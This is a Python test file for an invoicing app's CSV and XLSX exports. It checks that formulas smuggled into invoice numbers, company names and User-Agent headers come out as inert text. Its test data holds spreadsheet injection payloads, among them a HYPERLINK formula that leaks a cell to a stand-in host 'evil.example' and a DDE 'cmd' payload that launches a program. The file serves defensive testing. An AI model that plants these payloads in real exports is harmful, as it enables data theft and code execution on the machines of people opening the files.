"""Does an export carry another company's formula into a clerk's spreadsheet?

A supplier controls the number of a PDF invoice and its own company name; anyone controls the
User-Agent their browser sends. Both reach the buyer's tray export and the audit export.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.blueprints.test_pdf_upload import invoice_pdf, review, stage, token_of
from tests.conftest import login, make_company, make_user

pytestmark = pytest.mark.usefixtures("no_official_rules")

FORMULA_NUMBERS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ver factura")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    " =1",
]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def read_xlsx(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return list(load_workbook(io.BytesIO(response.data)).active.iter_rows())


def send_pdf(client, supplier, seller, customer, number: str) -> None:
    login(client, seller, supplier)
    token = token_of(stage(client, invoice_pdf(customer)).get_data(as_text=True))
    sent = client.post("/documents/upload-pdf/confirm", data=review(customer, token, number=number))
    assert sent.status_code == 303, sent.get_data(as_text=True)[:3000]


@pytest.mark.parametrize("number", FORMULA_NUMBERS, ids=repr)
def test_does_a_pdf_invoice_numbered_with_a_formula_reach_the_buyer_export_as_plain_text(
    client, number
):
    supplier = make_company("@Proveedora =1+1")
    customer = make_company("Compradora")
    seller = make_user(supplier, role="receivables")
    send_pdf(client, supplier, seller, customer, number)
    buyer = make_user(customer, role="payables")
    login(client, buyer, customer)

    rows = read_csv(client.get("/inbox/received.csv"))
    assert len(rows) == 2
    assert rows[1][1] in ("'" + number, "'" + number.strip())  # the form may trim spaces
    assert rows[1][3].startswith("'@Proveedora =1+1")
    assert Decimal(rows[1][6]) == Decimal("1785000.00")  # the amount is still a number

    cells = read_xlsx(client.get("/inbox/received.xlsx"))[1]
    number_cell, name_cell, amount_cell = cells[1], cells[3], cells[6]
    assert number_cell.data_type == "s" and name_cell.data_type == "s"
    assert number_cell.value.startswith("'") and not number_cell.value.startswith("=")
    assert name_cell.value.startswith("'@Proveedora =1+1")
    assert amount_cell.data_type == "n" and Decimal(str(amount_cell.value)) == Decimal("1785000")


def test_does_the_supplier_see_its_own_sent_export_neutralised_too(client):
    supplier, customer = make_company("Proveedora"), make_company("-Compradora")
    seller = make_user(supplier, role="receivables")
    send_pdf(client, supplier, seller, customer, FORMULA_NUMBERS[0])
    rows = read_csv(client.get("/inbox/sent.csv"))
    assert rows[1][1] == "'" + FORMULA_NUMBERS[0]
    cells = read_xlsx(client.get("/inbox/sent.xlsx"))[1]
    assert cells[1].value == "'" + FORMULA_NUMBERS[0] and cells[1].data_type == "s"


@pytest.mark.parametrize(
    "agent",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"clic")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1",
        "-1+1",
        "\uff20SUM(A1)",
    ],
    ids=repr,
)
def test_does_a_user_agent_that_is_a_formula_reach_the_audit_export_as_plain_text(
    client, supplier, customer, invoice, agent
):
    viewer = make_user(customer, role="owner", email="ana@example.test")
    login(client, viewer, customer)
    assert client.get(f"/documents/{invoice.id}", headers={"User-Agent": agent}).status_code == 200

    rows = read_csv(client.get("/audit/events.csv?action=document.viewed"))
    assert [r[7] for r in rows[1:]] == ["'" + agent]
    cells = read_xlsx(client.get("/audit/events.xlsx?action=document.viewed"))
    agent_cell = cells[1][7]
    assert agent_cell.data_type == "s" and agent_cell.value == "'" + agent
    assert all(c.data_type != "f" for row in cells for c in row)


def test_does_a_user_agent_with_control_characters_still_export_as_xlsx(
    client, supplier, customer, invoice
):
    viewer = make_user(customer, role="owner")
    login(client, viewer, customer)
    client.get(f"/documents/{invoice.id}", headers={"User-Agent": "curl\x07\x1b[31m=1"})
    cells = read_xlsx(client.get("/audit/events.xlsx?action=document.viewed"))
    assert cells[1][7].value.startswith("curl")


@pytest.mark.parametrize(
    ("locale", "kind", "unpaid"), [("es", "Factura", "sin pagar"), ("en", "Invoice", "unpaid")]
)
def test_does_the_tray_export_write_words_a_person_reads_not_stored_codes(
    client, locale, kind, unpaid
):
    supplier = make_company("Proveedora")
    customer = make_company("Compradora")
    seller = make_user(supplier, role="receivables")
    send_pdf(client, supplier, seller, customer, "FV-77")
    buyer = make_user(customer, role="payables", locale=locale)
    login(client, buyer, customer)
    for rows in (
        read_csv(client.get("/inbox/received.csv"))[1:],
        [[c.value for c in row] for row in read_xlsx(client.get("/inbox/received.xlsx"))[1:]],
    ):
        (row,) = rows
        assert row[0] == kind and row[10] == unpaid
        # The tax id as Colombians write it, with its scheme: 'NIT 900.123.456-7'.
        assert row[4].startswith("NIT ") and "." in row[4] and "-" in row[4], row[4]
